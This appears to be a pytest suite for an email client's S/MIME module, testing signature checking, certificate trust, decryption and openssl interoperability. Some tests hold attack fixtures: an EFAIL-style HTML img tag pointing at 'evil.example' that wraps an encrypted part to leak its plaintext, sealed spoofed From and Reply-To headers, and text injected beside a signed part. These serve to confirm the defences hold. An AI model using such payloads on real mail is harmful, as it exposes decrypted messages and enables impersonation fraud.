"""S/MIME: what holds, what does not and why, what opens; the same with the real openssl."""

from __future__ import annotations

import shutil
import subprocess
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from cha.channels.email.reading import read_mail
from cha.channels.email.sealing.making import CannotSeal, protect
from cha.channels.email.sealing.opening import open_mail
from cha.channels.email.sealing.values import Ring, Seal, State
from tests.channels.email.sealing.keys import MAIL, NOW, authority, openpgp, roots, smime, theirs

pytest.importorskip("asn1crypto")
ADA = "ada@nwosu.example"
SHOP = "hello@shop.example"
openssl = pytest.mark.skipif(not shutil.which("openssl"), reason="no openssl here")


def seal_of(raw: bytes, ring: Ring | None = None, sender: str = ADA, at: Any = NOW) -> Seal:
    found = open_mail(raw, at, sender, ring or Ring(roots=roots()))
    assert found.seal is not None
    return found.seal


def test_a_signature_that_an_authority_vouches_for_holds_and_is_checked() -> None:
    seal = seal_of(protect(MAIL, sign=smime(ADA)))
    assert (seal.state, seal.checked, seal.address, seal.name) == (State.HOLDS, True, ADA, "Ada Nwosu")


@pytest.mark.parametrize("change", [(b"three pieces", b"four pieces!"), (b"text/plain", b"text/html ")])
def test_words_that_were_changed_do_not_hold(change: tuple[bytes, bytes]) -> None:
    raw = protect(MAIL, sign=smime(ADA)).replace(*change)
    found = open_mail(raw, NOW, ADA, Ring(roots=roots()))
    assert found.seal
    assert (found.seal.state, found.raw) == (State.BROKEN, None)


def test_line_ends_that_a_server_changed_do_no_harm() -> None:
    assert seal_of(protect(MAIL, sign=smime(ADA)).replace(b"\r\n", b"\n")).state == State.HOLDS


def test_who_signs_must_be_who_writes() -> None:
    mallory = seal_of(protect(MAIL, sign=smime("mallory@elsewhere.example")))
    assert (mallory.state, mallory.public) == (State.UNTRUSTED, "")
    assert "mallory@elsewhere.example" in mallory.words
    assert seal_of(protect(MAIL, sign=smime(ADA)), sender="").state == State.UNTRUSTED


def test_a_certificate_of_nobody_known_is_learned_and_holds_the_next_time_without_being_checked() -> None:
    key = smime(ADA, trusted=False)
    raw = protect(MAIL, sign=key)
    first = seal_of(raw, Ring())
    assert (first.state, first.checked, first.public) == (State.UNTRUSTED, False, key.public)
    again = seal_of(raw, Ring(theirs=(theirs(key),)))
    assert (again.state, again.checked) == (State.HOLDS, False)
    vouched = seal_of(raw, Ring(theirs=(theirs(key, checked=True),)))
    assert (vouched.state, vouched.checked) == (State.HOLDS, True)


def test_another_certificate_than_before_is_said() -> None:
    other = theirs(smime(ADA, trusted=False))
    seal = seal_of(protect(MAIL, sign=smime(ADA, trusted=False, days=80)), Ring(theirs=(other,)))
    assert seal.state == State.UNTRUSTED
    assert "another certificate than before" in seal.words


def test_a_certificate_past_its_day_is_said() -> None:
    assert seal_of(protect(MAIL, sign=smime(ADA, days=-10))).state == State.EXPIRED
    assert seal_of(protect(MAIL, sign=smime(ADA)), at=NOW + timedelta(days=400)).state == State.EXPIRED


def test_what_stands_beside_the_signed_words_is_not_read_on() -> None:
    raw = protect(MAIL, sign=smime(ADA))
    body = raw.partition(b"\r\n\r\n")[2]
    boundary = body.split(b"\r\n")[0]
    more = body.replace(boundary + b"\r\n", boundary + b"\r\n\r\nPay at once.\r\n" + boundary + b"\r\n", 1)
    assert seal_of(raw.replace(body, more)).state == State.BROKEN
    # A signed part in a larger mail says nothing of the rest.
    outer = MAIL.replace(b"text/plain; charset=utf-8", b"multipart/mixed; boundary=o").partition(b"\r\n\r\n")[0]
    inside = b"\r\n\r\n--o\r\n\r\nPay at once.\r\n--o\r\n" + raw[raw.index(b"Content-Type") :] + b"\r\n--o--\r\n"
    assert open_mail(outer + inside, NOW, ADA, Ring(roots=roots())).seal is None


def test_a_sealed_mail_is_opened_with_its_signature_and_keeps_who_wrote_it() -> None:
    raw = protect(MAIL, sign=smime(ADA), seal=[theirs(smime(SHOP))])
    assert b"three pieces" not in raw
    found = open_mail(raw, NOW, ADA, Ring(ours=(smime(SHOP),), roots=roots()))
    assert found.seal
    assert (found.opened, found.seal.state, found.shut) == ("smime", State.HOLDS, "")
    mail = read_mail(found.raw or b"", received_at=NOW)
    assert mail.from_
    assert (mail.fresh_text, mail.from_.address, mail.subject) == (
        "Hello, the vase came in three pieces.", ADA, "The blue vase",
    )  # fmt: skip


def test_a_mail_for_another_certificate_stays_shut_in_words() -> None:
    raw = protect(MAIL, seal=[theirs(smime(ADA))])
    found = open_mail(raw, NOW, ADA, Ring(ours=(smime(SHOP),)))
    assert (found.raw, found.opened) == (None, None)
    assert "another certificate" in found.shut
    assert "no S/MIME key" in open_mail(raw, NOW, ADA, Ring()).shut


def test_headers_that_were_sealed_do_not_say_who_wrote() -> None:
    spoofed = MAIL.replace(b"Content-Type:", b"Content-Description: x\r\nContent-Type:")
    inner = b"From: boss@shop.example\r\nReply-To: x@evil.example\r\n" + b"Content-Type: text/plain\r\n\r\nPay.\r\n"
    from cha.channels.email.sealing.making import encrypt_smime

    head = spoofed.partition(b"\r\nMIME-Version")[0]
    raw = head + b"\r\n" + encrypt_smime(inner, [smime(SHOP).public])
    opened = open_mail(raw, NOW, ADA, Ring(ours=(smime(SHOP),))).raw or b""
    assert b"boss@" not in opened
    assert b"evil" not in opened


def test_what_is_not_sealed_is_never_put_beside_what_is() -> None:
    sealed = protect(MAIL, seal=[theirs(smime(SHOP))])
    part = sealed[sealed.index(b"Content-Type") :]
    raw = (
        b"From: ada@nwosu.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
        b"--x\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil.example/?\r\n--x\r\n'
        + part
        + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    found = open_mail(raw, NOW, ADA, Ring(ours=(smime(SHOP),)))
    assert (found.raw, found.opened) == (None, None)


def test_a_mail_that_cannot_be_sealed_for_everybody_is_not_made() -> None:
    with pytest.raises(CannotSeal):
        protect(MAIL, seal=[theirs(smime(SHOP)), theirs(openpgp(ADA))])
    with pytest.raises(CannotSeal):
        protect(MAIL, seal=[theirs(smime(SHOP)).__class__(smime(SHOP).kind, ADA, "no certificate", "")])


def run(*words: str, given: bytes = b"") -> bytes:
    done = subprocess.run(["openssl", *words], input=given, capture_output=True, check=False, timeout=30)
    assert done.returncode == 0, done.stderr
    return done.stdout


def put(folder: Path, **texts: str) -> None:
    for name, text in texts.items():
        (folder / name).write_text(text)


@openssl
@pytest.mark.parametrize("how", [[], ["-nodetach"], ["-keyopt", "rsa_padding_mode:pss"], ["-stream", "-nodetach"]])
def test_what_openssl_signs_is_checked(tmp_path: Path, how: list[str]) -> None:
    put(tmp_path, key=smime(ADA).secret, cert=smime(ADA).public)
    body = b"Content-Type: text/plain\r\n\r\nFrom openssl.\r\n"
    keys = ["-signer", str(tmp_path / "cert"), "-inkey", str(tmp_path / "key")]
    signed = run("cms", "-sign", *keys, *how, "-binary", given=body)
    assert seal_of(b"From: ada@nwosu.example\n" + signed).state == State.HOLDS


@openssl
@pytest.mark.parametrize("cipher", ["-aes256", "-aes128", "-des3", "-aes-256-gcm"])
@pytest.mark.parametrize("how", [[], ["-keyopt", "rsa_padding_mode:oaep"], ["-stream"]])
def test_what_openssl_seals_is_opened(tmp_path: Path, cipher: str, how: list[str]) -> None:
    put(tmp_path, cert=smime(SHOP).public)
    sealed = run("cms", "-encrypt", cipher, *how[-1:] if how == ["-stream"] else [], "-binary", "-recip",
                 str(tmp_path / "cert"), *how if how != ["-stream"] else [],
                 given=b"Content-Type: text/plain\r\n\r\nFrom openssl.\r\n")  # fmt: skip
    found = open_mail(b"From: ada@nwosu.example\n" + sealed, NOW, ADA, Ring(ours=(smime(SHOP),)))
    assert found.shut == ""
    assert read_mail(found.raw or b"", received_at=NOW).fresh_text == "From openssl."


@openssl
def test_openssl_checks_and_opens_what_is_made_here(tmp_path: Path) -> None:
    from cha.channels.email.sealing.certificates import pem_of

    put(tmp_path, root=pem_of([authority()[1]]), key=smime(ADA).secret, cert=smime(ADA).public)
    raw = protect(MAIL, sign=smime(SHOP), seal=[theirs(smime(ADA))])
    plain = run("cms", "-decrypt", "-recip", str(tmp_path / "cert"), "-inkey", str(tmp_path / "key"), given=raw)
    said = run("cms", "-verify", "-CAfile", str(tmp_path / "root"), given=plain)
    assert b"three pieces" in said


def test_a_key_on_a_curve_signs_and_is_checked() -> None:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    from cha.channels.email.sealing.certificates import pem_of
    from cha.channels.email.sealing.values import Kind, OurKey

    key, (root, above) = ec.generate_private_key(ec.SECP256R1()), authority()
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Ada Nwosu")])
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(above.subject).public_key(key.public_key())
    builder = builder.serial_number(7).not_valid_before(NOW - timedelta(1)).not_valid_after(NOW + timedelta(1))
    builder = builder.add_extension(x509.SubjectAlternativeName([x509.RFC822Name(ADA)]), critical=False)
    certificate = builder.sign(root, hashes.SHA256())
    secret = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    ours = OurKey(Kind.SMIME, ADA, secret, pem_of([certificate]))
    assert seal_of(protect(MAIL, sign=ours)).state == State.HOLDS
    # It can sign, but mail cannot be sealed for it: that is said, and nothing is sent.
    with pytest.raises(CannotSeal):
        protect(MAIL, seal=[theirs(ours)])


def test_a_certificate_that_is_not_for_mail_or_not_an_authority_s_is_not_believed() -> None:
    from cryptography import x509

    from cha.channels.email.sealing.certificates import is_vouched_for

    ada, shop = (x509.load_pem_x509_certificate(smime(who).public.encode()) for who in (ADA, SHOP))
    assert is_vouched_for(ada, [], [authority()[1]], NOW)
    assert not is_vouched_for(ada, [shop], [shop], NOW)
    assert not is_vouched_for(ada, [], [], NOW)
